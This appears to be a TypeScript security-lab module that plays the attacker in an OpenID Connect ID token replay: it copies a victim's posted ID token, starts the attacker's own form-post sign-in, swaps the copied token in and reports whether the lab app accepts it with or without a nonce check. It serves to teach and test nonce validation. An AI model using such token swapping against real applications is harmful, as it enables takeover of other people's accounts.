/**
 * Security lab: ID token replay, the attacker's side (the app it attacks is `id-token-replay.ts`).
 *
 * The attacker copies the ID token that the authorization server's form posted through the victim's
 * browser. Later, in their own browser, they start a real sign-in at the app, so the app holds a pending
 * sign-in with its own `state` and a new `nonce`, and sign in as themselves. The server answers with the
 * self-submitting form that carries their own ID token; the attacker stops it, puts the copied ID token
 * in its place and posts it. The state is right and the ID token is genuine: only its nonce belongs to
 * another sign-in (OIDC Core §15.5.2, §3.2.2.11).
 *
 * @see OpenID Connect Core 1.0 §15.5.2 (nonce implementation notes)
 * @see OAuth 2.0 Form Post Response Mode §2
 */
import {
  fieldOf,
  open,
  signInAndConsent,
  submit,
  withField,
  type BrowserConfig,
  type Credentials,
  type PostedForm,
} from './browser-actions';

export interface AttackerConfig extends BrowserConfig {
  /** Where the app is served: `/login`, `/callback` and `/back-channel` are under it. */
  appUrl: string;
  /** The lab's switch, passed to the app: whether it compares the ID token's nonce with this sign-in's. */
  checkNonce: boolean;
}

/** What the app reports of this browser's latest sign-in (`GET {app}/back-channel`), as far as the lab reads it. */
interface AppReport {
  session: {idTokenClaims: Record<string, unknown>} | null;
  frontChannel: {response?: {parameters: Array<[string, string]>}} | null;
  failure: string | null;
}

/** What the app made of the swapped form: a session for the copied ID token's subject, or a refusal. */
export type ReplayOutcome =
  {accepted: true; sub: string; name?: string} | {accepted: false; status: number; failure: string};

/** The link that starts a sign-in at the app (the victim's, here); `returnTo` is where the app sends the browser after it. */
export function signInLink(config: AttackerConfig, returnTo?: string): string {
  const url = new URL(`${config.appUrl}/login`);
  url.searchParams.set('check_nonce', config.checkNonce ? 'on' : 'off');
  if (returnTo) url.searchParams.set('return_to', returnTo);
  return url.href;
}

async function readReport(config: AttackerConfig): Promise<AppReport> {
  const fetch = config.fetch ?? ((url: string, init: RequestInit) => globalThis.fetch(url, init));
  const response = await fetch(`${config.appUrl}/back-channel`, {
    method: 'GET',
    headers: {accept: 'application/json'},
    credentials: 'same-origin',
  });
  if (!response.ok) throw new Error(`The app answered ${response.status} for its report.`);
  return (await response.json()) as AppReport;
}

/**
 * The attacker's copy of the ID token the victim's browser posted: in the lab it is read from what the app
 * received, as a proxy log or the browser's form history would have it. Undefined while nobody signed in.
 */
export async function copyPostedIdToken(
  config: AttackerConfig,
): Promise<{idToken: string; victimSub: string} | undefined> {
  const report = await readReport(config);
  if (report.failure) throw new Error(`The app reported: ${report.failure}`);
  const idToken = report.frontChannel?.response?.parameters.find(([name]) => name === 'id_token')?.[1];
  const sub = report.session?.idTokenClaims.sub;
  return idToken && typeof sub === 'string' ? {idToken, victimSub: sub} : undefined;
}

/**
 * The attacker starts a sign-in at the app in their own browser and signs in as themselves. The app asks
 * with `prompt=login`, so the login page comes every time; the consent page comes the first time. The
 * form the server answers with (Form Post Response Mode §2) is kept, not posted.
 */
export async function startOwnSignIn(config: AttackerConfig, attacker: Credentials): Promise<PostedForm> {
  const page = await signInAndConsent(config, await open(config, signInLink(config)), attacker);
  if (!page.form || fieldOf(page.form, 'id_token') === undefined)
    throw new Error(`The authorization server did not answer with the form post (HTTP ${page.status}).`);
  return page.form;
}

/** The attacker posts their own form with the copied ID token in place of theirs, then asks the app who is signed in. */
export async function postCopiedIdToken(
  config: AttackerConfig,
  form: PostedForm,
  copiedIdToken: string,
): Promise<ReplayOutcome> {
  const answer = await submit(config, withField(form, 'id_token', copiedIdToken));
  const report = await readReport(config);
  const sub = report.session?.idTokenClaims.sub;
  if (answer.status >= 200 && answer.status < 300 && typeof sub === 'string') {
    const name = report.session?.idTokenClaims.name;
    return {accepted: true, sub, ...(typeof name === 'string' ? {name} : {})};
  }
  return {accepted: false, status: answer.status, failure: report.failure ?? '(no reason given)'};
}
